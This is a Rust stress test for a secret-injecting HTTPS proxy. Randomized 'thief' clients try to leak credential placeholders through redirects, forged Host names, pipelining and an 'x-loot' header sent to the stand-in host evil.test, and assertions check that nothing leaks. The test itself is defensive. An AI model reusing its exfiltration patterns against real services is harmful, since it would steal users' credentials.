//! F58, F60, F61, G70, G71, G73 by chance: ten thousand requests of every kind, all at once, over real TLS, while
//! policies are pushed, values change or are gone, and names move.
//!
//! The origins keep every byte and give back what they were sent, in some spelling and coding (in one that is searched
//! for: of what is base64 already, no second one is made). The client is a thief:
//! it follows redirections with all its headers, aborts, asks under other names than it dialled, puts placeholders
//! anywhere, and takes whatever it was told to `evil.test`. The pass criterion: a value is seen by its own origin, in
//! the headers that it is for, and by nobody else; no answer and no record has it.

#![allow(clippy::indexing_slicing, reason = "a test fails by panicking")]

use std::collections::BTreeSet;
use std::hash::{BuildHasher, RandomState};
use std::io::Write as _;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use bytes::Bytes;
use exeat::flow::SecretName;
use exeat::policy::{Flags, Policy, Source, Terms};
use exeat::secret::placeholder::Placeholders;
use exeat::secret::{Secret, Secrets, Slot};
use flate2::Compression;
use flate2::write::GzEncoder;
use http_body_util::{BodyExt, Full};
use hyper::client::conn::{http1, http2};
use hyper_util::rt::{TokioExecutor, TokioIo};
use rustls::pki_types::ServerName;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::sync::Notify;
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;
use zeroize::Zeroizing;

use super::rig::{ANYWHERE, Rig};
use crate::support::origin::{Handler, Origin, Request, Speaks};

const REQUESTS: usize = 10_000;
/// How many do so at once.
const THIEVES: u64 = 8;
/// After so many requests something changes.
const CALM: usize = 50;

/// What every value of the two secrets begins with, so that few texts are looked for.
const MARKS: [&str; 2] = ["c4n4ry-Key/9Zq7Lm2", "c4n4ry-Oth+3Rt8Wx5"];
const NAMES: [&str; 2] = ["KEY", "OTHER"];
/// Whose origins they are; then who shares the address and the certificate of the first, and who is nobody's friend.
const SITES: [&str; 4] = ["own.test", "second.test", "neighbour.test", "evil.test"];
const EVIL: &str = SITES[3];
/// The headers of `own.test` and of `second.test` that may hold a value.
const HEADERS: [&[&str]; 2] = [&["x-always", "x-api-key", "authorization"], &["authorization", "x-api-key"]];

const POLICY: &str = "
version: 1
allow:
OWN
SECOND
  neighbour.test: [{}]
  evil.test: [{}]
secrets: { KEY: { env: KEY, to: [own.test] }, OTHER: { env: OTHER, to: [second.test] } }
placeholders: { ONE: KEY, TWO: OTHER }
";
const ALWAYS: &str = "
  own.test:
    - { match: { path: { startsWith: /always } }, transform: [{ headers: { x-always: '${secrets.KEY}' } }] }";
const SOMETIMES: &str = "
    - { match: { path: { startsWith: /with } }, transform: [{ headers: { x-api-key: 'k ${secrets.KEY}' } }] }";
const BASIC: &str = "
  second.test: [{ transform: [{ basic: { user: me, password: '${secrets.OTHER}' } }] }]";

/// What may be in force: who is allowed, and who gets what.
fn policies() -> Vec<String> {
    let own = [format!("{ALWAYS}{SOMETIMES}"), ALWAYS.to_owned(), String::new()];
    let second = [BASIC, "  second.test: [{}]", ""];
    let both = own.iter().flat_map(|own| second.map(|second| POLICY.replace("OWN", own).replace("SECOND", second)));
    both.collect()
}

/// Choices that a seed decides (xorshift).
#[derive(Clone)]
struct Chance(u64);

impl Chance {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn below(&mut self, bound: usize) -> usize {
        usize::try_from(self.next() >> 33).expect("31 bits") % bound
    }

    fn one_of<T: Clone>(&mut self, items: &[T]) -> T {
        items[self.below(items.len())].clone()
    }
}

/// How a text may be spelled.
const SPELLINGS: usize = 6;

fn spelled(text: &[u8], how: usize) -> String {
    let each = |form: fn(&u8) -> String| text.iter().map(form).collect();
    match how {
        1 => text.iter().rev().map(|byte| char::from(*byte)).collect(),
        2 => each(|byte| format!("{byte:02x}")),
        3 => each(|byte| format!("%{byte:02X}")),
        4 => each(|byte| format!("\\u{byte:04x}")),
        5 => STANDARD.encode(text),
        _ => String::from_utf8_lossy(text).into_owned(),
    }
}

/// A value's mark in every spelling; of base64 what stands in each of its three alignments.
fn shapes(mark: &str) -> Vec<String> {
    let coded = (0..3).map(|before| {
        let coded = STANDARD.encode(["x".repeat(before).as_bytes(), mark.as_bytes()].concat());
        coded[4..coded.len() - 4].to_owned()
    });
    (0..5).map(|how| spelled(mark.as_bytes(), how)).chain(coded).collect()
}

/// Which of the marks stand in a text.
struct Look([Vec<String>; 2]);

impl Look {
    fn new() -> Self {
        Self(MARKS.map(shapes))
    }

    fn finds(&self, which: usize, text: &[u8]) -> bool {
        self.0[which].iter().any(|shape| memchr::memmem::find(text, shape.as_bytes()).is_some())
    }

    fn finds_any(&self, text: &[u8]) -> bool {
        self.finds(0, text) || self.finds(1, text)
    }
}

/// Gives back all that it was sent, as its path says.
fn reflecting() -> Handler {
    Arc::new(|request: &Request| {
        let mut said = format!("{} {}\n", request.method, request.uri);
        for (name, value) in &request.headers {
            let decoded = value.strip_prefix("Basic ").and_then(|coded| STANDARD.decode(coded).ok());
            let value = decoded.map_or(value.clone(), |decoded| String::from_utf8_lossy(&decoded).into_owned());
            said.push_str(&format!("{name}: {value}\n"));
        }
        said.push_str(&String::from_utf8_lossy(&request.body));
        let choice = |key: &str| {
            let digits = request.uri.split_once(key).map_or("", |(_, rest)| rest);
            digits.chars().take_while(char::is_ascii_digit).collect::<String>().parse().unwrap_or(0)
        };
        let text = spelled(said.as_bytes(), choice("spell="));
        let accepts = |coding: &str| request.header("accept-encoding").iter().any(|list| list.contains(coding));
        let mut response = http::Response::builder().header("cache-control", "public, max-age=3600");
        if request.uri.contains("/redirect") {
            let place = format!("https://{EVIL}/?{}", spelled(said.as_bytes(), 3));
            response = response.status(302).header("location", place);
        }
        for (_, value) in request.headers.iter().filter(|(name, _)| HEADERS.concat().contains(&name.as_str())) {
            response = response.header("set-cookie", format!("id={value}")).header("etag", format!("\"{value}\""));
        }
        let (response, body) = match choice("code=") {
            1 if accepts("gzip") => {
                let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
                encoder.write_all(text.as_bytes()).unwrap();
                (response.header("content-encoding", "gzip"), encoder.finish().unwrap())
            }
            2 if accepts("br") => {
                let mut encoder = brotli::CompressorWriter::new(Vec::new(), 4096, 1, 18);
                encoder.write_all(text.as_bytes()).unwrap();
                (response.header("content-encoding", "br"), encoder.into_inner())
            }
            3 if accepts("zstd") => {
                let mut coded = Vec::with_capacity(zstd_safe::compress_bound(text.len()));
                zstd_safe::compress(&mut coded, text.as_bytes(), 1).unwrap();
                (response.header("content-encoding", "zstd"), coded)
            }
            _ => (response, text.into_bytes()),
        };
        response.body(Full::from(body)).unwrap()
    })
}

type Tls = TlsStream<TcpStream>;

struct Stage {
    rig: Rig,
    http1: TlsConnector,
    http2: TlsConnector,
    slots: [Arc<Slot>; 2],
    held: [String; 2],
    /// Where `own.test` and its neighbour, `second.test`, and `evil.test` are.
    origins: [Origin; 3],
    look: Look,
    done: AtomicUsize,
    due: Notify,
    statuses: [AtomicUsize; 6],
}

impl Stage {
    async fn new() -> Self {
        let (secrets, slots) = (Secrets::default(), [(); 2].map(|()| Arc::<Slot>::default()));
        for ((name, slot), mark) in NAMES.iter().zip(&slots).zip(MARKS) {
            fill(slot, mark, 0);
            secrets.share(SecretName::new(name).unwrap(), Arc::clone(slot));
        }
        let policy = &policies()[0];
        let compiled =
            Policy::compile(Some(Source { path: "policy.yaml", text: policy }), &Flags::default(), &Terms::default());
        let placeholders = Placeholders::default().with(&compiled.unwrap().policy, &secrets).unwrap();
        let held = NAMES.map(|name| placeholders.texts()[&SecretName::new(name).unwrap()].clone());
        let rig = Rig::start(policy, secrets).await;
        rig.hold(placeholders);
        let serve = |name, names: &[&str]| rig.origin(name, Speaks::Https(rig.ca.tls(names), reflecting()));
        let origins = [serve(SITES[0], &[SITES[0], SITES[2]]), serve(SITES[1], &[SITES[1]]), serve(EVIL, &[EVIL])];
        rig.resolve(SITES[2], origins[0].address);
        let (done, due) = (AtomicUsize::new(0), Notify::new());
        let [http1, http2] = ["http/1.1", "h2"].map(|speaks| rig.connector(speaks));
        Self { rig, http1, http2, slots, held, origins, look: Look::new(), done, due, statuses: Default::default() }
    }

    /// Whether there is something left to do; what changes meanwhile is told when it is due.
    fn goes_on(&self) -> bool {
        let done = self.done.fetch_add(1, Ordering::Relaxed);
        if done.is_multiple_of(CALM) {
            self.due.notify_one();
        }
        done < REQUESTS
    }

    /// Changes something whenever that is due.
    async fn change(&self, mut chance: Chance) {
        let policies = policies();
        for round in 1.. {
            self.due.notified().await;
            if self.done.load(Ordering::Relaxed) >= REQUESTS {
                return;
            }
            // What was taken away is there again.
            self.rig.resolve(SITES[0], self.origins[0].address);
            let which = chance.below(2);
            match chance.below(8) {
                0 => self.slots[which].clear(),
                // The own name leads to the thief.
                1 => self.rig.resolve(SITES[0], self.origins[2].address),
                2 | 3 => fill(&self.slots[which], MARKS[which], round),
                4 => self.rig.push(&chance.one_of(&policies)).await,
                _ => {
                    // For the most part, there is something to steal.
                    self.rig.replace(&policies[0]);
                    (0..2).for_each(|which| fill(&self.slots[which], MARKS[which], round));
                }
            }
        }
    }

    /// TLS to a site, unless it is refused.
    async fn tls(&self, site: &str, speaks: &str) -> Option<Tls> {
        let connector = if speaks == "h2" { &self.http2 } else { &self.http1 };
        let name = ServerName::try_from(site.to_owned()).expect("a name");
        connector.connect(name, self.rig.connect(ANYWHERE).await).await.ok()
    }

    fn heard(&self, status: http::StatusCode, answer: &[u8]) {
        self.statuses[usize::from(status.as_u16() / 100)].fetch_add(1, Ordering::Relaxed);
        assert!(!self.look.finds_any(answer), "{status}: {}", String::from_utf8_lossy(answer));
    }
}

fn fill(slot: &Slot, mark: &str, round: usize) {
    slot.fill(Secret::new(Zeroizing::new(format!("{mark}{round:08}").into_bytes())), None);
}

/// One that asks, and what it has been told.
struct Thief<'a> {
    stage: &'a Stage,
    chance: Chance,
    loot: String,
}

/// What a thief speaks, inside TLS.
enum Client {
    Http1(http1::SendRequest<Full<Bytes>>),
    Http2(http2::SendRequest<Full<Bytes>>),
}

impl Client {
    async fn over(tls: Tls, is_http2: bool) -> Option<Self> {
        let io = TokioIo::new(tls);
        if is_http2 {
            let (client, connection) = http2::handshake(TokioExecutor::new(), io).await.ok()?;
            tokio::spawn(connection);
            return Some(Self::Http2(client));
        }
        let (client, connection) = http1::handshake(io).await.ok()?;
        tokio::spawn(connection);
        Some(Self::Http1(client))
    }

    /// The answer's head, and all that was heard of it; `None` where the exchange broke off.
    async fn ask(&mut self, request: http::Request<Full<Bytes>>) -> Option<(http::response::Parts, Vec<u8>)> {
        let answer = match self {
            Self::Http1(client) => client.send_request(request).await.ok()?,
            Self::Http2(client) => client.send_request(request).await.ok()?,
        };
        let (head, mut body) = answer.into_parts();
        let mut heard = format!("{:?}\n", head.headers).into_bytes();
        while let Some(Ok(frame)) = body.frame().await {
            match frame.into_data() {
                Ok(data) => heard.extend(data),
                Err(trailers) => heard.extend(format!("{:?}\n", trailers.trailers_ref()).bytes()),
            }
        }
        Some((head, heard))
    }
}

impl Thief<'_> {
    async fn steal(mut self) {
        while self.stage.goes_on() {
            let site = self.chance.one_of(&SITES);
            match self.chance.below(8) {
                0 => self.pipeline(site).await,
                which => self.converse(site, which > 3).await,
            }
        }
    }

    /// Two requests in one piece, the second in another's name.
    async fn pipeline(&mut self, site: &str) {
        let (first, mut second) = (self.request(site, false), self.request(site, false));
        second.headers_mut().append("connection", http::HeaderValue::from_static("close"));
        let Some(mut tls) = self.stage.tls(site, "http/1.1").await else { return };
        let mut heard = Vec::new();
        // It may be cut off at any time; what was said before has been said.
        if tls.write_all((written(&first) + &written(&second)).as_bytes()).await.is_ok() {
            let _ = tls.read_to_end(&mut heard).await;
        }
        self.stage.heard(http::StatusCode::CONTINUE, &heard);
    }

    /// A few requests over one connection.
    async fn converse(&mut self, site: &str, is_http2: bool) {
        let Some(tls) = self.stage.tls(site, if is_http2 { "h2" } else { "http/1.1" }).await else { return };
        let Some(mut client) = Client::over(tls, is_http2).await else { return };
        for _ in 0..=self.chance.below(24) {
            let request = self.request(site, is_http2);
            let patience = if self.chance.below(12) == 0 { self.chance.below(60) } else { usize::MAX };
            let told = tokio::select! {
                biased;
                told = client.ask(request) => told,
                () = turns(patience) => None,
            };
            if let Some((head, heard)) = &told {
                self.stage.heard(head.status, heard);
                self.loot = String::from_utf8_lossy(heard).chars().filter(char::is_ascii_graphic).take(200).collect();
            }
            // What broke off is over; over HTTP/2 only its stream is.
            if told.is_none() && !is_http2 || !self.stage.goes_on() {
                return;
            }
        }
    }

    /// A request for whom it is meant, or for somebody else.
    fn request(&mut self, site: &str, is_http2: bool) -> http::Request<Full<Bytes>> {
        let place = ["/always", "/with", "/redirect", "/", "/with/redirect", "/cached"];
        let mut target = self.chance.one_of(&place).to_owned();
        let (spelling, coding) = (self.chance.below(SPELLINGS), self.chance.below(4));
        target.push_str(&format!("?spell={spelling}&code={coding}"));
        let host = if self.chance.below(12) == 0 { self.chance.one_of(&SITES) } else { site };
        let held = self.chance.one_of(&self.stage.held);
        let mut body = Vec::new();
        let mut request = http::Request::builder().method("GET");
        match self.chance.below(12) {
            0..=3 => request = request.header("authorization", format!("Bearer {held}")),
            4 => request = request.header("authorization", format!("Basic {}", STANDARD.encode(format!("u:{held}")))),
            5 => request = request.header("x-api-key", &held),
            6 => request = request.header("user-agent", &held),
            7 => target.push_str(&format!("&t={held}")),
            8 => body = [vec![b'x'; self.chance.below(4_000)], held.into_bytes()].concat(),
            9 => request = request.header("x-api-key", "mine").header("x-always", "mine").header("x_always", "mine"),
            _ => {}
        }
        match self.chance.below(8) {
            0 => request = request.header("range", "bytes=5-20"),
            1 => request = request.header("if-none-match", "\"x\""),
            2 if !is_http2 => request = request.header("connection", "x-always, x-api-key, authorization"),
            3 => body.extend(vec![b'y'; self.chance.below(300)]),
            _ => {}
        }
        if site == EVIL || self.chance.below(8) == 0 {
            request = request.header("x-loot", std::mem::take(&mut self.loot));
        }
        let coding = self.chance.one_of(&["gzip, br", "br", "gzip", "identity", "zstd", "deflate, *"]);
        request = request.header("accept-encoding", coding);
        if !body.is_empty() {
            request = request.method("POST");
        }
        let request = match is_http2 {
            true => request.uri(format!("https://{host}{target}")),
            false => request.header("host", host).uri(target),
        };
        request.body(Full::from(body)).expect("a request")
    }
}

/// The bytes of a request over HTTP/1 without its body, which is not sent.
fn written(request: &http::Request<Full<Bytes>>) -> String {
    let mut text = format!("GET {} HTTP/1.1\r\n", request.uri());
    for (name, value) in request.headers() {
        text.push_str(&format!("{name}: {}\r\n", value.to_str().expect("ASCII")));
    }
    text + "\r\n"
}

/// Ready after it was polled so often.
async fn turns(count: usize) {
    match count {
        usize::MAX => std::future::pending().await,
        _ => {
            for _ in 0..count {
                tokio::task::yield_now().await;
            }
        }
    }
}

/// Which site a request was for, by what it says.
fn host(request: &Request) -> String {
    let named = request.uri.strip_prefix("https://").map(|rest| rest.split('/').next().unwrap_or_default().to_owned());
    named.unwrap_or_else(|| request.header("host").concat())
}

/// Nobody but the secrets' own origins has seen them, and these in no other place than where they belong.
fn judge(stage: &Stage) {
    let mut seen = [0; 2];
    for (at, origin) in stage.origins.iter().enumerate() {
        for request in origin.heads().iter().chain(&origin.requests()) {
            let host = host(request);
            let own = SITES.iter().take(2).position(|site| *site == host);
            for (name, value) in &request.headers {
                let decoded = value.strip_prefix("Basic ").and_then(|coded| STANDARD.decode(coded).ok());
                for which in 0..2 {
                    let finds = |text: &[u8]| stage.look.finds(which, text);
                    if finds(value.as_bytes()) || decoded.as_ref().is_some_and(|decoded| finds(decoded)) {
                        assert!(own == Some(which) && HEADERS[which].contains(&name.as_str()), "{request:?}");
                        seen[which] += 1;
                    }
                }
                assert_eq!(request.header(name).len(), 1, "{request:?}");
            }
            let rest = [request.method.as_bytes(), request.uri.as_bytes(), &request.body].concat();
            assert!(!stage.look.finds_any(&rest), "{request:?}");
            if host == SITES[0] && request.uri.contains("/always") {
                assert!(request.header("x-always").concat().starts_with(MARKS[0]), "sent without: {request:?}");
            }
        }
        let inner = origin.inner();
        let foreign = (0..2).filter(|which| at != *which);
        foreign.for_each(|which| assert!(!stage.look.finds(which, inner.as_bytes()), "at {}", SITES[at]));
    }
    assert!(seen.iter().all(|times| *times > 500), "each was used: {seen:?}");
    assert!(stage.origins[2].requests().len() > 500, "and evil.test was asked");
    assert!(!stage.look.finds_any(format!("{:?}", stage.rig.events()).as_bytes()), "the record has one");
    let statuses: Vec<usize> = stage.statuses.iter().map(|count| count.load(Ordering::Relaxed)).collect();
    assert!(statuses[2..].iter().all(|count| *count > 50), "answers of every kind: {statuses:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn f61_in_ten_thousand_requests_by_chance_no_value_goes_astray() {
    let seed = RandomState::new().hash_one(0) | 1;
    // It is shown where the test fails.
    println!("seed {seed}");
    let stage = Stage::new().await;
    let thieves = (1..=THIEVES).map(|number| {
        let chance = Chance(seed.wrapping_mul(2 * number + 1));
        Thief { stage: &stage, chance, loot: String::new() }.steal()
    });
    let changes = stage.change(Chance(seed));
    let ((), _) = tokio::join!(changes, futures_util::future::join_all(thieves));
    judge(&stage);
    let routes: BTreeSet<_> = stage.rig.requests().iter().map(|judged| format!("{:?}", judged.outcome)).collect();
    assert!(routes.len() > 3, "some of everything: {routes:?}");
}
